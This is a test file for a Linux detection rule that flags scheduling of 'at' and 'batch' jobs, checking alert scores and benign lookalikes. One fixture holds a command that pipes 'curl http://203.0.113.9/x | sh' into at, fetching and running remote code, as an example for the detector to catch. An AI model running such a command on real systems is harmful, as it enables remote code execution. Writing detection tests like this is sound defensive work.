import { describe, expect, test } from 'vitest';
import { t1053LinuxAtJobCreated as alert } from '../../../src/t1053/extended/linux-at.ts';
import { auditedFile, moved, started } from '../linux-events.ts';
import { scores, told } from './host-run.ts';

const at = (line: string, more = {}) => started('/usr/bin/at', line, more);
const JOB = '/var/spool/cron/atjobs/a0000101c2b3d4';

describe('what fires', () => {
  test.each([
    ['at now', 25],
    ['at -m 13:20 tomorrow', 25],
    ['at -q b now + 1 minute', 25],
    ['at -t 202605120900', 25],
    ['at -t202605120900', 25],
    ['at -f /root/job now', 25],
    ['at -f /tmp/job now', 40],
    ['at -f/dev/shm/.x now', 40],
  ])('%s', (line, score) => {
    expect(scores(alert, at(line))).toEqual([score]);
  });

  test('batch, with and without a time', () => {
    expect(scores(alert, started('/usr/bin/batch', 'batch'))).toEqual([25]);
    expect(told(alert, [started('/usr/bin/batch', 'batch')])[0]?.details['time']).toBe(
      'when the load is low',
    );
  });

  test('what a shell pipes to at is a risk', () => {
    const parentCommandLine = 'sh -c echo "curl http://203.0.113.9/x | sh" | at now';
    expect(scores(alert, at('at now', { parentCommandLine }))).toEqual([45]);
    const other = 'sh -c curl http://203.0.113.9/cat';
    expect(scores(alert, at('at now', { parentCommandLine: other }))).toEqual([25]);
  });

  test.each([JOB, '/var/spool/at/a0000101c2b3d4', '/var/spool/atjobs/a0000101c2b3d4'])(
    'a file %s',
    (path) => {
      expect(scores(alert, auditedFile(path, { image: '/usr/bin/at' }))).toEqual([25]);
    },
  );

  test('a job that another program writes counts more', () => {
    expect(scores(alert, auditedFile(JOB))).toEqual([50]);
    expect(scores(alert, moved(JOB, '/tmp/x'))).toEqual([50]);
  });

  test.each(['create', 'write', 'rename', 'delete'] as const)('%s of at.allow', (op) => {
    expect(scores(alert, auditedFile('/etc/at.allow', { op }))).toEqual([25]);
  });

  test('the command and its file are one', () => {
    const events = [at('at now', { pid: 7 }), auditedFile(JOB, { image: '/usr/bin/at', pid: 7 })];
    const [first, ...others] = told(alert, events);
    expect(others).toEqual([]);
    expect(first).toMatchObject({ count: 2, details: { time: 'now', filePath: JOB } });
  });
});

describe('what looks alike', () => {
  test.each(['at -l', 'at -r 7', 'at -d 7', 'at -c 7', 'at -V', 'at -ml', 'at', 'at -m'])(
    '%s is silent',
    (line) => {
      expect(scores(alert, at(line))).toEqual([]);
    },
  );

  test.each([
    ['atd starting a job', auditedFile(`/var/spool/cron/atjobs/=0000101c2b3d4`)],
    ['the counter of at', auditedFile('/var/spool/cron/atjobs/.SEQ')],
    ['what atd writes', auditedFile(JOB, { image: '/usr/sbin/atd' })],
    ['a job that is over', auditedFile(JOB, { op: 'delete' })],
    ['a job that was not made', auditedFile(JOB, { isSuccess: false })],
    ['a copy of a policy', auditedFile('/backup/etc/at.allow')],
    ['a folder of that name', auditedFile('/home/u/at/a0000101c2b3d4')],
    ['another program', started('/usr/bin/cat', 'cat now')],
  ])('%s is silent', (_, event) => {
    expect(scores(alert, event)).toEqual([]);
  });
});
